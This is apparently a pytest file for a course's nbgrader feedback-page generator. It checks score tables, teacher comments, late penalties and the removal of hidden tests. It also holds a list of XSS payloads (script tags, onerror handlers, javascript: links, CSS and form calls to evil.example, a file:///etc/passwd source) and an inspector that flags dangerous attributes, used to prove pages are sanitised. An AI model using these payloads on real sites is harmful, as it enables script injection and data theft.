"""Feedback pages: complete, readable without a network, harmless whatever a student wrote, and nothing hidden in them.

Marks and outputs are put into gradebook and notebook by hand: what grading makes of a submission is tested elsewhere.
"""

import json
import re
import subprocess
import sys
from base64 import b64encode
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook

from grading import course, feedback
from lab.verdict import MIME, Verdict

UNIT = "02_class_balance"
NAME, OTHER, QUESTION = "count_labels", "imbalance_ratio", "class_balance_question"
EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def root(room):
    """A course root of its own with one unit released."""
    assert course.main(["release", UNIT]) == 0
    return room / "grading"


def released(root: Path):
    return nbformat.read(root / "release" / UNIT / f"{UNIT}.ipynb", as_version=4)


def put_verdict(notebook, name: str, status: str, points: float, *messages: str, most: float = 2) -> None:
    """Let the check cell of an exercise show a verdict."""
    cell = next(cell for cell in notebook.cells if cell.id == f"{name}-check")
    bundle = Verdict(name, status, points, most, messages)._repr_mimebundle_() | {"text/html": EVIL}
    cell.outputs = [new_output("execute_result", json.loads(json.dumps(bundle)), execution_count=1)]


def autograded(root: Path, student: str, notebook, marks=None, comments=None, **about) -> Path:
    """Lay an autograded notebook into the course, and its marks into the gradebook."""
    path = root / "autograded" / student / UNIT / f"{UNIT}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(notebook))
    with Gradebook(f"sqlite:///{root}/gradebook.db") as gradebook:
        gradebook.update_or_create_student(student, **about)
        gradebook.update_or_create_submission(UNIT, student)
        for name, values in (marks or {}).items():
            grade = gradebook.find_grade(name, UNIT, UNIT, student)
            for key, value in ({"needs_manual_grade": False} | values).items():
                setattr(grade, key, value)
        for name, text in (comments or {}).items():
            gradebook.find_comment(name, UNIT, UNIT, student).manual_comment = text
        gradebook.db.commit()
    return root / "feedback" / student / UNIT / f"{UNIT}.html"


def written(path: Path, monkeypatch) -> str:
    """Write one student's page with `make feedback` and return it."""
    monkeypatch.setattr(course, "_students", lambda *_: [path.parent.parent.name])
    assert course.main(["feedback", UNIT]) == 0
    return path.read_text()


ORDINARY = {
    f"check_{NAME}": {"auto_score": 2},
    f"check_{OTHER}": {"auto_score": 0.5},
    "check_stratified_split": {"auto_score": 0},
    "check_dataset_mean_std": {"auto_score": 0, "manual_score": 1.5},
    "check_brightness_classifier": {"auto_score": 0},
    QUESTION: {"needs_manual_grade": True},
}


def ordinary(root: Path):
    notebook = released(root)
    put_verdict(notebook, NAME, "passed", 2)
    put_verdict(notebook, OTHER, "failed", 0.5, "Expected `2.5`, got 3 < 4.", most=1)
    put_verdict(notebook, "stratified_split", "not attempted", 0, most=4)
    put_verdict(notebook, "dataset_mean_std", "crashed", 0, "It stopped.", most=2)
    return notebook


# --- what a page says ------------------------------------------------------------------------------------------------


@pytest.fixture
def page(root, monkeypatch):
    comments = {NAME: "Well **done**, $a^2$.", QUESTION: "Think of <b>class 5</b>."}
    path = autograded(root, "ada", ordinary(root), ORDINARY, comments, first_name="Ada", last_name="O'Neill, Åsa")
    return written(path, monkeypatch)


def rows(page: str) -> dict[str, tuple[str, str]]:
    """Return result and points by the name in the first column of the page's first table."""
    table = page.partition("<table")[2].partition("</table>")[0]
    cells = [[text_of(cell) for cell in re.findall(r"<td.*?</td>", row, re.S)] for row in table.split("<tr")]
    return {cell[0]: (cell[1], cell[2]) for cell in cells if len(cell) == 3}


def text_of(source: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", "", source).split())


def test_table_has_every_verdict_and_the_total(page):
    found = rows(page)
    assert found[NAME] == ("✓ passed Your teacher: Well done, a2.", "2 of 2")
    assert found[OTHER] == ("✗ failed Expected 2.5, got 3 &lt; 4.", "0.5 of 1")
    assert found["stratified_split"] == ("○ not attempted", "0 of 4")
    assert found["dataset_mean_std"] == ("⚠ crashed; points by your teacher It stopped.", "1.5 of 2")
    assert found["check_brightness_classifier"] == ("✗ not passed", "0 of 3")
    assert found[QUESTION] == ("… waits for your teacher Your teacher: Think of class 5.", "– of 3")
    assert found["Total"] == ("", "4 of 15")
    assert "1 answer waits for your teacher" in page and "Handed in late" not in page


def test_page_names_the_student_and_shows_the_notebook(page, root):
    assert "Ada O&#39;Neill, Åsa" in page and UNIT in page
    assert page.count('<section class="cell"') == len(released(root).cells)
    assert "<math" in page and "check.count_labels(count_labels)" in text_of(page)


def test_links_lead_to_the_cells(page):
    targets = re.findall(r'href="#(cell-\d+)"', page)
    assert len(targets) == 6 and all(f'id="{target}"' in page for target in targets)


def test_panels_are_drawn_from_the_data(page):
    assert "alert" not in page and page.count("role='status'") == 4


def test_graded_question_and_late_penalty(root, monkeypatch):
    marks = ORDINARY | {QUESTION: {"auto_score": 0, "manual_score": 2}}
    path = autograded(root, "late", ordinary(root), marks)
    with Gradebook(f"sqlite:///{root}/gradebook.db") as gradebook:
        gradebook.find_submission_notebook(UNIT, UNIT, "late").late_submission_penalty = 1.5
        gradebook.db.commit()
    page = written(path, monkeypatch)
    assert rows(page)[QUESTION] == ("✓ marked by your teacher", "2 of 3")
    assert rows(page)["Handed in late"] == ("", "−1.5") and rows(page)["Total"] == ("", "4.5 of 15")
    assert "waits" not in page


def test_unanswered_question(root, monkeypatch):
    path = autograded(root, "silent", released(root), ORDINARY | {QUESTION: {"auto_score": 0}})
    assert rows(written(path, monkeypatch))[QUESTION] == ("○ not answered", "0 of 3")


def test_condition_and_repairs_are_said(root, monkeypatch):
    notebook = ordinary(root)
    grading = {
        "condition": "memory",
        "note": f"ran out of memory in cell 7 {EVIL}",
        "repairs": ["Cell 3: <b>back</b>."],
    }
    notebook.metadata.lab["grading"] = grading
    page = written(autograded(root, "big", notebook, ORDINARY), monkeypatch)
    assert "not graded as usual:</b> ran out of memory in cell 7 &lt;script&gt;" in page
    assert "<li>Cell 3: &lt;b&gt;back&lt;/b&gt;.</li>" in page
    assert_harmless(page)


@pytest.mark.parametrize("lab", [None, [], "x", {"grading": 3}, {"grading": {"condition": [1], "repairs": "no"}}])
def test_odd_notes_of_grading(root, monkeypatch, lab):
    notebook = ordinary(root)
    notebook.metadata["lab"] = lab
    assert rows(written(autograded(root, "odd", notebook, ORDINARY), monkeypatch))[NAME]


def test_mark_without_its_cell_is_listed(root, monkeypatch):
    notebook = ordinary(root)
    notebook.cells = [cell for cell in notebook.cells if cell.id != f"{NAME}-check"]
    page = written(autograded(root, "less", notebook, ORDINARY), monkeypatch)
    assert rows(page)[f"check_{NAME}"] == ("✓ passed", "2 of 2")


# --- verdicts that are none ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        {"exercise": OTHER}, {"status": "perfect"}, {"status": ["passed"]}, {"points": "2"}, {"points": None},
        {"max_points": {}}, {"exercise": ["x"]},
    ],
)  # fmt: skip
def test_unsound_verdict_is_no_panel(root, change):
    notebook = released(root)
    put_verdict(notebook, NAME, "passed", 2)
    cell = next(cell for cell in notebook.cells if cell.id == f"{NAME}-check")
    assert feedback.verdict_of(cell)
    cell.outputs[0].data[MIME].update(change)
    assert feedback.verdict_of(cell) is None


def test_forged_panel_elsewhere_is_text(root, monkeypatch):
    notebook = ordinary(root)
    forged = Verdict(NAME, "passed", 2, 2, ("You are the best.",))._repr_mimebundle_()
    for kind in ("display_data", "execute_result"):
        cell = new_code_cell("display(...)", outputs=[new_output(kind, json.loads(json.dumps(forged)))])
        notebook.cells.insert(0, cell)
    page = written(autograded(root, "forger", notebook, ORDINARY), monkeypatch)
    assert "You are the best" not in page and rows(page)["stratified_split"][1] == "0 of 4"


# --- nothing runs, nothing is fetched --------------------------------------------------------------------------------

SAFE_TAGS = (feedback.nh3.ALLOWED_TAGS - {"area", "map"}) | feedback.MATHML | {
    "html", "head", "meta", "title", "style", "body", "header", "main", "section", "tfoot"
}  # fmt: skip


class Inspector(HTMLParser):
    """Lists what of a page may run, fetch or submit."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attributes):
        if tag not in SAFE_TAGS:
            self.found.append(tag)
        for name, value in attributes:
            value = value or ""
            if name.startswith("on") or name in ("srcset", "action", "background", "ping", "srcdoc"):
                self.found.append((tag, name, value))
            if name in ("src", "poster", "data", "xlink:href") and not feedback.PICTURE.fullmatch(value):
                self.found.append((tag, name, value))
            if name == "href" and not (value.startswith("#") or re.match(r"https?://|mailto:", value)):
                self.found.append((tag, name, value))
            if name == "style" and re.search(r"url|@|position|expression|margin:\s*-", value):
                self.found.append((tag, name, value))
            if name == "http-equiv" and value not in ("Content-Security-Policy", "x-dns-prefetch-control"):
                self.found.append((tag, name, value))


POLICY = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"


def assert_harmless(page: str) -> None:
    inspector = Inspector()
    inspector.feed(page)
    assert not inspector.found
    assert f'"{POLICY}"' in page.partition("</head>")[0]
    assert not re.search(r"url\(", page.partition("</style>")[0])


HOSTILE = [
    EVIL,
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a><a href=' JaVa\tScRiPt:alert(1)'>x</a><a href='data:text/html,x'>x</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/pixel.png) <https://fine.example>",
    "<img src='https://evil.example/pixel.png'><img src='//evil.example/p'><img srcset='https://evil.example/p 2x'>",
    "<img src='file:///etc/passwd'><img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<style>@import 'https://evil.example'; body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p><p style='position:fixed;top:0'>y</p>",
    "<p style='background:u\\rl(https://evil.example)'>x</p><p style=\"background:image-set('//e' 1x)\">x</p>",
    "<link rel=stylesheet href=//evil.example><link rel=dns-prefetch href=//evil.example><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)></audio><object data=x></object>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>--> <!-- --!> <img src=x onerror=alert(1)> -->",
    "</section></main></body></html><script>alert(1)</script><plaintext>",
    "</pre></div></div></style></title></textarea><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$ and $\\text{<script>alert(1)</script>}$ and $\\style{position:fixed}{x}$",
    '<img alt=\'$\\text{" onerror="alert(1)}$\' src=x> [a](http://x/$y$ "$z$")',
    "<span data-formula='7'></span><span data-formula=\"0\"></span> $x$",
    "<x onclick=alert(1)>y</x><details ontoggle=alert(1) open>z</details><b id=top name=top class=summary>w</b>",
    "\x1b[31mred\x1b[0m <script>alert(1)</script> \x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\ud800\x00\x08 half a character, and none",
    "`` ` `` ```\n<script>alert(1)</script>\n```",
]


@pytest.fixture(scope="module")
def hostile(root):
    """A notebook that shows everything hostile in every way a notebook can show anything."""
    notebook = ordinary(root)
    for text in HOSTILE:
        data = [{kind: text} for kind in [*feedback.KINDS, "application/javascript", "application/pdf", "text/foo"]]
        data += [{"text/html": text, "application/vnd.jupyter.widget-view+json": {"model_id": text}}]
        data += [{"image/png": f'" onerror="alert(1){text}'}, {"image/svg+xml": f"<svg><script>{text}</script></svg>"}]
        outputs = [new_output("display_data", item) for item in data]
        outputs += [new_output("stream", name="stderr", text=text), new_output("stream", name="stdout", text=text)]
        outputs += [new_output("error", ename=text, evalue=text, traceback=[text, text])]
        notebook.cells += [new_code_cell(text, outputs=outputs), new_markdown_cell(text), new_raw_cell(text)]
        notebook.cells[-1].metadata["raw_mimetype"] = "text/html"
        picture = {f"image/png{text}": text, "text/html": "PHNjcmlwdD4="}
        notebook.cells[-2].attachments = {"a.png": picture}
        notebook.cells[-2].source += "\n\n![a](attachment:a.png) ![b](attachment:b.png)"
    put_verdict(notebook, NAME, "failed", 1, *[text for text in HOSTILE if "\ud800" not in text])
    notebook.metadata.lab["grading"] = {"condition": EVIL, "note": EVIL, "repairs": HOSTILE}
    notebook.metadata.title = EVIL
    return json.loads(json.dumps(notebook))


def test_hostile_notebook_is_harmless(root, hostile, monkeypatch):
    notebook = nbformat.from_dict(hostile)
    path = autograded(root, "mallory <b>", notebook, ORDINARY, {NAME: EVIL, QUESTION: EVIL}, first_name=EVIL)
    page = written(path, monkeypatch)
    assert_harmless(page)
    assert "https://fine.example" in page and "half a character" in page
    assert rows(page)["Total"] == ("", "4 of 15"), "the table stands whatever comes after it"


def test_checks_of_harmlessness_find_something():
    for text in HOSTILE[:3]:
        with pytest.raises(AssertionError):
            assert_harmless(f'<head>"{POLICY}"</head>{text}')


@pytest.mark.parametrize("text", HOSTILE)
def test_each_piece_is_harmless(text):
    page = feedback.plain(text)
    for source in (feedback.markdown(page), feedback.harmless(page), feedback.formula(page, "block")):
        inspector = Inspector()
        inspector.feed(str(source))
        assert not inspector.found


def test_formula_bombs_stay_small():
    bomb = "".join(rf"\newcommand{{\x{chr(98 + n)}}}{{\x{chr(97 + n)}\x{chr(97 + n)}}}" for n in range(24)) + r"\xz"
    for text in (bomb, "{" * 1_900, r"\frac{" * 300, r"\sqrt[" * 300, "a" * 100_000):
        assert len(feedback.formula(text, "inline")) < 500_000


def test_deep_and_long_texts_are_shown_in_part():
    for text in ("<b>" * 50_000, "<table>" * 20_000, "[" * 50_000, "> " * 9_000, "- " * 9_000, "*a " * 6_000):
        assert len(feedback.markdown(text)) < 1_000_000
        assert len(feedback.harmless(text)) < 1_000_000


def test_long_notebook_is_shown_in_part(root, monkeypatch):
    notebook = ordinary(root)
    notebook.cells += [new_code_cell("x", outputs=[new_output("stream", text="a\n" * 30_000)]) for _ in range(600)]
    page = written(autograded(root, "long", notebook, ORDINARY), monkeypatch)
    assert "more characters)" in page and "more cells are not shown" in page and len(page) < 25_000_000
    assert rows(page)["Total"] == ("", "4 of 15")


# --- what an honest notebook shows -----------------------------------------------------------------------------------


def drawn(kind: str, data: str) -> str:
    return str(
        feedback.output(nbformat.from_dict(new_output("display_data", {kind: data, "text/plain": "plain"})), None)
    )


PNG = b64encode(b"\x89PNG\r\n").decode()


def test_pictures_and_tables_survive():
    assert f'alt="A curve" src="data:image/png;base64,{PNG}"' in drawn(
        "text/html", f'<img alt="A curve" src="data:image/png;base64,{PNG}" style="max-width:100%">'
    ) and f"data:image/png;base64,{PNG}" in drawn("image/png", f"{PNG}\n")
    assert "data:image/svg+xml;base64," in drawn("image/svg+xml", "<svg/>")
    assert "<td>3</td>" in drawn("text/html", "<style>x</style><table><tr><td>3</td></tr></table>")
    assert "plain" in drawn("text/html", "<script>draw()</script><style>x</style>")
    assert "<pre>plain</pre>" == drawn("application/json", "{}")


def test_pasted_picture_of_an_answer_is_shown():
    page = feedback.markdown("![my plot](attachment:a%20b.png)", {"a%20b.png": {"image/png": PNG}})
    assert f'src="data:image/png;base64,{PNG}"' in page and 'alt="my plot"' in page


def test_progress_bars_are_shown_once():
    out = new_output("stream", text=" 10%|#\r 50%|###\r100%|#####|\nnext\r\n")
    assert str(feedback.output(nbformat.from_dict(out), None)) == "<pre>100%|#####|\nnext\n</pre>"


def test_lessons_markdown():
    page = feedback.markdown(
        "<details>\n<summary>More</summary>\n\n| a | b |\n|---|---|\n| $x$ | ~~y~~ |\n\n</details>"
    )
    assert "<details>" in page and "<th>a</th>" in page and "<mi>x</mi>" in page and "<s>y</s>" in page
    assert "$5" in feedback.markdown("costs $5") and "&lt;mi&gt;" not in page
    assert "<mo>&lt;</mo>" in feedback.formula("a < b", "inline")


# --- nothing hidden in it --------------------------------------------------------------------------------------------


def test_hidden_tests_are_cut_out(root, monkeypatch):
    """Of an assignment written the usual nbgrader way, whose autograded notebook holds them."""
    secret = "assert double(21) == 42"
    notebook = ordinary(root)
    check = next(cell for cell in notebook.cells if cell.id == "brightness_classifier-check")
    check.source = f"assert double(1) == 2\n### BEGIN HIDDEN TESTS\n{secret}, 'not 42'\n### END HIDDEN TESTS"
    trace = ["AssertionError Traceback", f"\x1b[32m----> 4\x1b[39m {secret}, 'not 42'", "AssertionError: not 42"]
    check.outputs = [new_output("error", ename="AssertionError", evalue="not 42", traceback=trace)]
    spied = f"In[-1] is\n{secret}, 'not 42'\nso there"
    html = f"<pre>{secret.replace('=', '&#61;')}, 'not 42'</pre>"
    outputs = [new_output("stream", text=spied), new_output("display_data", {"text/html": html, "text/plain": spied})]
    notebook.cells.append(new_code_cell("print(In[-1])", outputs=outputs))
    page = text_of(written(autograded(root, "spy", notebook, ORDINARY), monkeypatch))
    assert "double(1)" in page and "AssertionError: not 42" in page and "so there" in page
    assert "double(21)" not in page and "HIDDEN TESTS" not in page


# --- nbgrader's own command ------------------------------------------------------------------------------------------


def test_plain_nbgrader_writes_our_page(root):
    path = autograded(root, "plain", ordinary(root), ORDINARY)
    (root / "nbgrader_config.py").write_text((Path(course.__file__).parent / "nbgrader_config.py").read_text().replace(
        "Path(__file__).resolve().parent", f"Path({str(Path(course.__file__).parent)!r})", 1
    ).replace("str(HERE)\nc.", f"{str(root)!r}\nc.", 1))  # fmt: skip
    command = [Path(sys.executable).with_name("nbgrader"), "generate_feedback", UNIT, "--student", "plain"]
    result = subprocess.run(command, cwd=root, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert rows(path.read_text())["Total"] == ("", "4 of 15")
